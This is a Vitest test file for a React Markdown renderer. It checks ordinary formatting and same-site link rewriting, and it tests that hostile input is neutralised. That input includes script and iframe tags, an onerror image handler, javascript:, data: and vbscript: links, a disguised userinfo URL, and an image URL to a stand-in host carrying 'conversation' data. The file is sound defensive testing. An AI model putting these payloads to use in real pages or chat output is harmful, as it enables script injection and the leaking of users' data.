import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown } from './markdown.tsx';

const print = (text: string) => renderToStaticMarkup(<Markdown text={text} siteOrigin="https://docs.example.com" />);

it('renders the Markdown of pages', () => {
	expect(print('A **b** _c_ `d`\n\n1. one\n2. two')).toBe(
		'<p>A <strong>b</strong> <em>c</em> <code>d</code></p><ol start="1"><li>one</li><li>two</li></ol>',
	);
	expect(print('```js title="config/a.js"\nconst a = 1 < 2;\n```')).toContain(
		'<code><span class="line">const a = 1 &lt; 2;</span></code>',
	);
	expect(print('| a | b |\n| --- | --- |\n| `x` | y |')).toContain('<td><code>x</code></td><td>y</td>');
});

it('makes links to the site relative, whatever its current address is', () => {
	expect(print('[a](https://docs.example.com/cms/b?x=1#c)')).toBe('<p><a href="/cms/b?x=1#c">a</a></p>');
});

describe('hostile text', () => {
	it.each([
		'<script>alert(1)</script>',
		'a <img src=x onerror=alert(1)> b',
		'<iframe src="https://evil.example"></iframe>',
		'<a href="javascript:alert(1)">x</a>',
		'<style>body{display:none}</style>',
	])('shows %s as the text it is', (text) => {
		const html = print(text);
		expect(html).not.toMatch(/<(script|img|iframe|a|style)\b/);
		expect(html).toContain('&lt;');
	});

	it.each([
		'[x](javascript:alert(1))',
		'[x](JaVaScRiPt:alert(1))',
		'[x](data:text/html,<script>alert(1)</script>)',
		'[x](vbscript:x)',
		'[x](https://docs.example.com@evil.example/)',
		'<javascript:alert(1)>',
	])('makes no link of %s', (text) => {
		expect(print(text)).not.toContain('<a');
	});

	it('does not load images', () => {
		expect(print('![secret](https://evil.example/?q=conversation)')).toBe('<p>secret</p>');
	});

	it('shows the target of a disguised link', () => {
		const html = print('[https://docs.example.com/login](https://evil.example/login)');
		expect(html).toContain('title="https://evil.example/login"');
		expect(html).toContain('rel="noopener noreferrer nofollow ugc"');
	});
});
